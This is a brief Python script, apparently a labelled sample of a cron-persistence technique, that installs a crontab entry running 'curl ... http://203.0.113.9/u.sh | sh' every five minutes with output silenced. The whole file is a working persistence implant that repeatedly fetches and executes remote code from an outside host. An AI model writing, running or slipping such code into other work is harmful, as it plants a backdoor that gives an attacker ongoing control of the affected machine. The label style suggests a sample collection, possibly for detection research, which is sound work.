# class: persistence by cron; style: tidy agent with functions
import subprocess


def current_crontab() -> str:
    result = subprocess.run(["crontab", "-l"], capture_output=True, text=True)
    return result.stdout if result.returncode == 0 else ""


def install(line: str) -> None:
    table = current_crontab()
    if line in table:
        return
    subprocess.run(["crontab", "-"], input=table + line + "\n", text=True, check=True)


if __name__ == "__main__":
    install("*/5 * * * * curl -fsSL http://203.0.113.9/u.sh | sh >/dev/null 2>&1")
    print("ok")
